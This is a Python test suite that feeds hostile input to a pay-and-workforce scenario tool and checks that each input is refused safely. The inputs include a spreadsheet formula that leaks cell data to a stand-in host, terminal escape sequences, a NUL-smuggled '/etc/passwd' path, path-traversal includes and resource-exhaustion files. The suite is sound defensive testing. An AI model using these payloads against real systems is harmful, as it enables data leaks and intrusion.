"""Hostile input, made on the spot: each test writes an attack of one class
into a temporary folder and runs the s75 command on it. Every attack must end
cleanly: exit 1 with a place (file:line:column) named in stderr, or 0 for a
valid file; no signal, no silently wrong figure, no clobbered file, no raw
control character or live formula in any output.

The CPU time and peak memory bounds (generous, for a loaded CI machine) are
checked only in a plain build: a sanitizer build is several times slower and
bigger by design. Run by meson with S75_EXE and S75_SOURCE_ROOT set.
"""
import csv
import io
import json
import os
import re
import subprocess
import tempfile
import unittest
import zipfile

EXE = os.path.abspath(os.environ.get("S75_EXE", "build/examples/s75"))
ROOT = os.environ.get("S75_SOURCE_ROOT", os.path.join(os.path.dirname(__file__), ".."))
SANITIZED = os.environ.get("S75_SANITIZED", "") not in ("", "0")
CPU_SECONDS = 10.0
PEAK_BYTES = 1.5e9
LOCATION = re.compile(r"[^\s:]+:\d+:\d+: ")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")

SCALE = """scales:
  s:
    year: 2025
    bands:
      "5": {points: [30000, 32000], progression_years: [2]}
      "6": {points: [37000, 39000, 45000], progression_years: [2, 3]}
"""

PAY = """pay:
  scale: s
  oncosts: {employer_ni: {rate: "15%", threshold: 5000}, pension: "20%"}
"""


def scenario(body="", years=3, partners=("a", "b"), head=None, pay=True, scale=True):
    """A small valid scenario; body is appended (risk_share, demand, ...)."""
    text = head if head is not None else "s75: 1\nname: Hostile\nbase_year: 2025\nyears: %d\n" % years
    if scale:
        text += SCALE
    if pay:
        text += PAY
        text += 'workforce:\n  - {role: Nurse, band: "6", wte: 10}\n'
    text += "non_pay:\n  - {name: Rent, amount: 100000}\n"
    text += "partners:\n"
    for p in partners:
        text += "  - {id: %s, contribution: {amount: 300000}}\n" % p
    return text + body


class Hostile(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name

    def tearDown(self):
        self.tmp.cleanup()

    def write(self, name, data):
        path = os.path.join(self.dir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data.encode() if isinstance(data, str) else data)
        return path

    def s75(self, *args, stdin=None):
        """Runs s75 in the temporary folder; returns (exit code, stdout, stderr)."""
        p = subprocess.run([EXE, *args], capture_output=True, cwd=self.dir, timeout=600,
                           stdin=subprocess.DEVNULL if stdin is None else stdin)
        return p.returncode, p.stdout, p.stderr

    def run_bounded(self, *args):
        """s75 with the CPU and memory bounds checked (plain build only)."""
        import resource
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        code, out, err = self.s75(*args)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
        self.assertGreaterEqual(code, 0, "killed by signal %d: %s" % (-code, err[-400:]))
        if not SANITIZED:
            self.assertLess(cpu, CPU_SECONDS, "%s took %.1f s of CPU" % (args, cpu))
            # ru_maxrss of children is the largest child so far, in KiB.
            self.assertLess(after.ru_maxrss * 1024, PEAK_BYTES, "%s peak %d KiB" % (args, after.ru_maxrss))
        return code, out, err

    def refused(self, args, needle, where=True):
        code, out, err = self.run_bounded(*args)
        text = err.decode("utf-8", "replace")
        self.assertEqual(code, 1, "%s: exit %d, stderr %s" % (args, code, text[-600:]))
        self.assertIn(needle, text)
        if where:
            self.assertRegex(text, LOCATION)
        self.assertIsNone(CONTROL.search(text), "raw control character in %r" % text[-300:])
        return text

    def accepted(self, args):
        code, out, err = self.run_bounded(*args)
        self.assertEqual(code, 0, "%s: exit %d, stderr %s" % (args, code, err.decode()[-600:]))
        return out.decode()


class Crash(Hostile):
    def test_utf16_portfolio_naming_itself(self):
        text = "s75: 1\nname: P\nbase_year: 2025\nyears: 3\npools:\n  - {id: a, scenario: p.yaml}\n"
        self.write("p.yaml", b"\xff\xfe" + text.encode("utf-16-le"))
        self.refused(["validate", "p.yaml"], "is itself a portfolio")
        self.refused(["run", "p.yaml"], "is itself a portfolio")

    def test_utf16_big_endian_pool_naming_the_portfolio(self):
        text = "s75: 1\nname: P\nbase_year: 2025\nyears: 3\npools:\n  - {id: a, scenario: q.yaml}\n"
        self.write("p.yaml", text)
        self.write("q.yaml", b"\xfe\xff" + text.replace("q.yaml", "p.yaml").encode("utf-16-be"))
        self.refused(["validate", "p.yaml"], "is itself a portfolio")


class DuplicateKeys(Hostile):
    CASES = {
        "shares": 'risk_share:\n  overspend: {rule: fixed, shares: {a: "50%", a: "50%"}}\n',
        "caps": 'risk_share:\n  overspend: {rule: proportional, caps: {a: 10, a: 20}}\n',
        "tier shares": 'risk_share:\n  overspend: {rule: tiered, tiers: [{up_to: 100, shares: '
                       '{a: "50%", a: "50%"}}, {rule: proportional}]}\n',
        "drivers": "demand:\n  productive_hours: 1300\n  drivers:\n    births: {base: 100}\n"
                   "    births: {base: 200}\n  activities:\n    - {name: V, driver: births, "
                   'minutes: 60, band: "6"}\n',
        "quoted twin": 'risk_share:\n  overspend: {rule: fixed, shares: {a: "50%", "a": "50%"}}\n',
        "top level": "years: 3\n",
    }

    def test_every_mapping_refuses_a_key_twice(self):
        for what, body in self.CASES.items():
            with self.subTest(what):
                path = self.write("d.yaml", scenario(body))
                text = self.refused(["validate", path], "duplicate key")
                self.assertIn("first at line", text)

    def test_the_split_is_never_computed_from_a_twin(self):
        # {a: 50%, a: 50%} once passed the 100% check and split 66.67/16.67/16.66.
        path = self.write("d.yaml", scenario(self.CASES["shares"]))
        self.refused(["run", path, "--format", "csv"], "duplicate key")

    def test_an_include_scale_twice(self):
        self.write("inc.yaml", SCALE + '      "6": {points: [1], progression_years: []}\n')
        path = self.write("d.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\nyears: 3\n"
                                             "include: inc.yaml\n", scale=False))
        self.refused(["validate", path], "duplicate key '6'")


class Work(Hostile):
    def test_3000_variants(self):
        body = "variants:\n" + "".join("  v%d: {\"workforce[0].wte\": %d}\n" % (i, i) for i in range(3000))
        path = self.write("v.yaml", scenario(body))
        self.refused(["validate", path], "more than 100 variants")

    def test_100_variants_of_a_large_file_are_budgeted(self):
        body = "workforce:\n" + "".join('  - {role: R%d, band: "6", wte: 1}\n' % i for i in range(20000))
        body += "variants:\n" + "".join("  v%d: {\"workforce[0].wte\": %d}\n" % (i, i) for i in range(100))
        path = self.write("v.yaml", scenario(body, pay=False).replace("non_pay:", PAY + "non_pay:"))
        self.refused(["validate", path], "variants of a file of")

    def test_a_year_key_repeated_150000_times(self):
        body = "non_pay:\n  - name: X\n    amount: 1\n    inflation:\n" + "      2026: 1%\n" * 150000
        path = self.write("y.yaml", scenario().replace("non_pay:\n  - {name: Rent, amount: 100000}\n", body))
        self.refused(["validate", path], "duplicate key")

    def test_20000_unknown_ids_in_shares(self):
        shares = ", ".join('x%05d: "0%%"' % i for i in range(20000))
        path = self.write("u.yaml", scenario("risk_share:\n  overspend: {rule: fixed, shares: {%s}}\n" % shares))
        self.refused(["validate", path], "no partner with id")

    def test_a_variant_of_20000_entries(self):
        entries = "".join("    workforce[0].wte: %d\n" % i for i in range(1)) + "".join(
            "    non_pay[0].amount%d: 1\n" % i for i in range(20000))
        path = self.write("e.yaml", scenario("variants:\n  big:\n" + entries))
        self.refused(["validate", path], "more than 1000 overrides")

    def test_1000_overrides_of_one_long_list_copy_it_once(self):
        lines = "".join('  - {role: R%d, band: "6", wte: 1}\n' % i for i in range(50000))
        sets = "".join("    workforce[%d].wte: 2\n" % i for i in range(1000))
        text = scenario(pay=False).replace("non_pay:", PAY + "workforce:\n" + lines + "non_pay:")
        path = self.write("c.yaml", text + "variants:\n  many:\n" + sets)
        self.accepted(["validate", path])
        self.accepted(["run", path, "--variant", "many", "--format", "json"])

    def test_a_long_string_aliased_many_times(self):
        big = "x" * 1500000
        body = "anchors: &big \"%s\"\nvariants:\n  v:\n" % big
        items = "".join("    k%d: *big\n" % i for i in range(9999))
        path = self.write("a.yaml", scenario(body + items))
        text = self.refused(["validate", path], "bytes")
        self.assertNotIn("(null)", text)

    def test_a_large_include_listed_32_times_and_a_diamond(self):
        rows = "".join('      "b%d": {points: [1], progression_years: []}\n' % i for i in range(200))
        big = SCALE + rows + "# " + "x" * 4000000 + "\n"
        self.write("big.yaml", big)
        self.write("left.yaml", "include: big.yaml\n")
        self.write("right.yaml", "include: big.yaml\n")
        head = "s75: 1\nname: H\nbase_year: 2025\nyears: 3\ninclude: [%s]\n"
        path = self.write("i.yaml", scenario(head=head % ", ".join(["big.yaml"] * 32), scale=False))
        self.accepted(["validate", path])
        path = self.write("j.yaml", scenario(head=head % "left.yaml, right.yaml", scale=False))
        self.accepted(["validate", path])

    def test_pools_sharing_a_file_that_includes_a_large_one(self):
        self.write("big.yaml", SCALE + "# " + "x" * 4000000 + "\n")
        self.write("pool.yaml", scenario(head="s75: 1\nname: Pool\nbase_year: 2025\nyears: 3\n"
                                              "include: big.yaml\n", scale=False))
        pools = "".join("  - {id: p%d, tier: place, scenario: pool.yaml}\n" % i for i in range(20))
        path = self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n" + pools)
        self.accepted(["run", path, "--format", "json"])

    def test_5000_pools_with_4_million_draws(self):
        self.write("pool.yaml", scenario())
        pools = "".join("  - {id: p%d, tier: place, scenario: pool.yaml}\n" % i for i in range(5000))
        path = self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n" + pools +
                          "uncertainty: {draws: 4000000}\n")
        self.refused(["simulate", path], "draws")

    def test_100000_fully_written_workforce_lines_load(self):
        line = ('  - {role: R%d, band: "6", wte: 1, headcount: 1, points: [0.2, 0.3, 0.5], '
                "turnover: 0.1, vacancy: 0.1, agency_fill: 0.1, agency_premium: 0.1}\n")
        lines = "".join(line % i for i in range(100000))
        text = scenario(pay=False).replace("non_pay:", PAY + "workforce:\n" + lines + "non_pay:")
        path = self.write("w.yaml", text)
        self.assertLess(os.path.getsize(path), 16 * 1024 * 1024)
        self.accepted(["validate", path])


class Numbers(Hostile):
    def test_draws_past_what_a_long_holds(self):
        for draws in ("9223372036854775807", "9223372036854775808", "1e19", "-9223372036854775809"):
            with self.subTest(draws):
                path = self.write("n.yaml", scenario("uncertainty: {draws: %s}\n" % draws))
                for cmd in ("validate", "run", "simulate"):
                    self.refused([cmd, path], "uncertainty.draws")

    def test_a_long_large_scenario_simulates(self):
        # 40 years of 75,000 WTE: the break-even probe at a +50% award reaches
        # amounts the risk-share split refuses; the probe needs no split.
        text = scenario(years=40).replace("wte: 10}", "wte: 75000}").replace(
            "amount: 300000", "amount: 3000000000")
        path = self.write("l.yaml", text + "uncertainty: {draws: 50}\n")
        self.accepted(["simulate", path, "--format", "json"])


class Smaller(Hostile):
    def test_nul_in_a_single_include_path(self):
        self.write("inc.yaml", SCALE)
        path = self.write("z.yaml", scenario(head='s75: 1\nname: H\nbase_year: 2025\nyears: 3\n'
                                             'include: "inc.yaml\\0/etc/passwd"\n', scale=False))
        self.refused(["validate", path], "NUL")

    def test_set_an_index_with_leading_zeros(self):
        path = self.write("s.yaml", scenario())
        plain = self.accepted(["run", path, "--format", "json", "--set", "partners[1].contribution.amount=5"])
        zeros = self.accepted(["run", path, "--format", "json", "--set",
                               "partners[0000000000001].contribution.amount=5"])
        self.assertEqual(json.loads(plain)["projection"], json.loads(zeros)["projection"])
        code, out, err = self.s75("run", path, "--set", "partners[99999999999999999999].id=x")
        self.assertEqual(code, 1)
        self.assertIn(b"past the end", err)


class Output(Hostile):
    def setUp(self):
        super().setUp()
        self.scn = self.write("s.yaml", scenario())

    # A name without a known extension, so --format alone picks each report's format.
    def test_regenerated_report_keeps_its_mode(self):
        out = os.path.join(self.dir, "r.out")
        self.accepted(["run", self.scn, "-o", out])
        os.chmod(out, 0o600)
        self.accepted(["run", self.scn, "--format", "csv", "-o", out])
        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
        self.assertEqual(sorted(os.listdir(self.dir)), ["r.out", "s.yaml"])

    def test_a_link_is_followed_and_a_hard_link_kept(self):
        out = os.path.join(self.dir, "r.out")
        self.accepted(["run", self.scn, "-o", out])
        os.symlink("r.out", os.path.join(self.dir, "link.out"))
        os.link(out, os.path.join(self.dir, "hard.out"))
        self.accepted(["run", self.scn, "--format", "json", "-o", os.path.join(self.dir, "link.out")])
        self.assertTrue(os.path.islink(os.path.join(self.dir, "link.out")))
        with open(os.path.join(self.dir, "hard.out")) as f:
            self.assertTrue(f.read().startswith("{"))  # the other name sees the new report
        self.assertEqual(os.stat(out).st_nlink, 2)

    def test_devices_fifos_and_dash_are_written_in_place(self):
        fifo = os.path.join(self.dir, "fifo")
        os.mkfifo(fifo)
        reader = subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE)
        self.accepted(["run", self.scn, "--format", "csv", "-o", fifo])
        data = reader.communicate(timeout=60)[0]
        self.assertIn(b"projection", data)
        self.assertTrue(os.path.exists(fifo) and not os.path.isfile(fifo))
        link = os.path.join(self.dir, "null")
        os.symlink("/dev/null", link)
        self.accepted(["run", self.scn, "-o", link])
        self.assertFalse(os.path.isfile("/dev/null"))
        out = self.accepted(["run", self.scn, "--format", "json", "-o", "-"])
        self.assertTrue(out.startswith("{"))
        self.assertFalse(os.path.exists(os.path.join(self.dir, "-")))

    def test_a_240_byte_name(self):
        name = "r" * 236 + ".txt"
        self.accepted(["run", self.scn, "-o", name])
        self.assertTrue(os.path.isfile(os.path.join(self.dir, name)))
        self.accepted(["run", self.scn, "--format", "xlsx", "-o", "x" * 235 + ".xlsx"])

    def test_output_onto_an_input_is_refused(self):
        self.write("inc.yaml", SCALE)
        main = self.write("m.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\nyears: 3\n"
                                             "include: inc.yaml\n", scale=False))
        self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n"
                   "  - {id: pool-a, scenario: m.yaml}\n")
        for cmd, target in (("run", "m.yaml"), ("run", "inc.yaml"), ("simulate", "m.yaml")):
            before = open(os.path.join(self.dir, target)).read()
            self.refused([cmd, "m.yaml", "-o", target], "overwrite a file the scenario reads", where=False)
            self.assertEqual(before, open(os.path.join(self.dir, target)).read())
        os.symlink("m.yaml", os.path.join(self.dir, "alias.yaml"))
        self.refused(["run", "pf.yaml", "-o", "alias.yaml"], "overwrite", where=False)
        self.refused(["compare", "m.yaml", "pf.yaml", "-o", "inc.yaml"], "overwrite", where=False)

    def test_no_library_line_on_a_failed_workbook(self):
        code, out, err = self.s75("run", self.scn, "--format", "xlsx", "-o",
                                  os.path.join(self.dir, "missing", "x.xlsx"))
        self.assertEqual(code, 1)
        self.assertNotIn(b"[ERROR]", err)


class Injection(Hostile):
    def test_csv_cells_are_never_formulas(self):
        for name in ('=HYPERLINK("http://x?leak="&B2,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"):
            with self.subTest(name):
                text = scenario().replace("role: Nurse", "role: '%s'" % name.replace("'", "''"))
                path = self.write("c.yaml", text)
                out = self.accepted(["run", path, "--format", "csv"])
                for row in csv.reader(io.StringIO(out)):
                    for cell in row:
                        self.assertFalse(cell[:1] in ("=", "@", "\t", "\r") or
                                         (cell[:1] in "+-" and len(cell) > 1 and not
                                          re.fullmatch(r"[-+]?[0-9.eE+-]+", cell)), cell)
                self.assertIn("'" + name + " (band 6)", out.replace('""', '"'))

    def test_control_characters_are_refused_in_names_and_escaped_in_messages(self):
        for bad in ("\x1b]0;pwned\x07", "a\nforged line", "\x1b[2J", "x\u0085y", "del\x7f"):
            with self.subTest(repr(bad)):
                esc = json.dumps(bad)
                path = self.write("k.yaml", scenario().replace("name: Rent", "name: %s" % esc))
                self.refused(["validate", path], "control characters")
                path = self.write("k.yaml", scenario("risk_share:\n  overspend: {rule: fixed, "
                                                     "shares: {%s: 1}}\n" % esc))
                self.refused(["validate", path], "")

    def test_xlsx_strings_keep_a_literal_escape(self):
        path = self.write("x.yaml", scenario().replace("name: Hostile", "name: a_x0041_b"))
        self.accepted(["run", path, "--format", "xlsx", "-o", "x.xlsx"])
        with zipfile.ZipFile(os.path.join(self.dir, "x.xlsx")) as z:
            texts = z.read("xl/sharedStrings.xml").decode()
        self.assertIn("a_x005F_x0041_b", texts)
        self.assertNotIn(">a_x0041_b<", texts)


class Disclosure(Hostile):
    SECRET = "root:$6$SECRETHASH:19000:0:99999:7:::\nalice: SECRET-TOKEN-42\n"

    def test_an_included_file_is_never_quoted(self):
        self.write("secret", self.SECRET)
        for head in ("include: secret\n", "include: [secret]\n"):
            path = self.write("i.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\nyears: 3\n" + head,
                                                 scale=False))
            text = self.refused(["validate", path], "not an include file")
            self.assertNotIn("SECRET", text)

    def test_a_pool_file_that_is_no_scenario_is_never_quoted(self):
        self.write("secret", self.SECRET)
        path = self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n"
                          "  - {id: a, scenario: secret}\n")
        text = self.refused(["validate", path], "not a scenario file")
        self.assertNotIn("SECRET", text)

    def test_includes_confined_to_the_folder(self):
        outside = tempfile.TemporaryDirectory()
        self.addCleanup(outside.cleanup)
        with open(os.path.join(outside.name, "scale.yaml"), "w") as f:
            f.write(SCALE)
        os.symlink(os.path.join(outside.name, "scale.yaml"), os.path.join(self.dir, "link.yaml"))
        self.write("sub/inside.yaml", SCALE)
        for inc, ok in ((os.path.join(outside.name, "scale.yaml"), False), ("link.yaml", False),
                        ("sub/../../" + os.path.basename(outside.name) + "/scale.yaml", False),
                        ("sub/inside.yaml", True)):
            with self.subTest(inc):
                path = self.write("c.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\n"
                                                     "years: 3\ninclude: %s\n" % inc, scale=False))
                self.accepted(["validate", path]) if ok else None
                for cmd in (["validate", "--confine-includes", path], ["run", path, "--confine-includes"]):
                    if ok:
                        self.accepted(cmd)
                    else:
                        self.refused(cmd, "outside the scenario's folder")


if __name__ == "__main__":
    unittest.main(verbosity=2)
